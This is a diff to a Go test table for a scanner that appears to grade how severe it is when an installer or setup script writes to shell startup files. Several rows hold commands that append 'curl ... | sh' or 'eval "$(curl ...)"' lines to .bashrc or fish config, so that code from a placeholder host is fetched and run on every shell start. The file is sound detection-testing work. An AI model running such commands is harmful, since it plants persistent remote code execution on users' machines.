@@ -49,6 +49,8 @@ func TestSeverityByContext(t *testing.T) {
 		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
 		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
 		{"installer adds its hook to fish", "install.sh", "printf '\\nif status is-interactive\\n    t init fish | source\\nend\\n' >> \"$HOME/.config/fish/config.fish\"", 1, "medium persistence"},
+		{"installer adds a download its shell evals", "install.sh", "echo 'eval \"$(curl -fsSL https://x.invalid/u)\"' >> ~/.bashrc", 1, "high persistence"},
+		{"installer adds its init hook", "install.sh", "echo 'eval \"$(t init bash)\"' >> ~/.bashrc", 1, "medium persistence"},
 		{"installer adds a download to fish", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.config/fish/config.fish\"", 1, "high persistence"},
 		{"script adds to fish", "scripts/setup.sh", "echo 'set -x PATH $HOME/.t/bin $PATH' >> ~/.config/fish/config.fish", 1, "high persistence"},
 		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
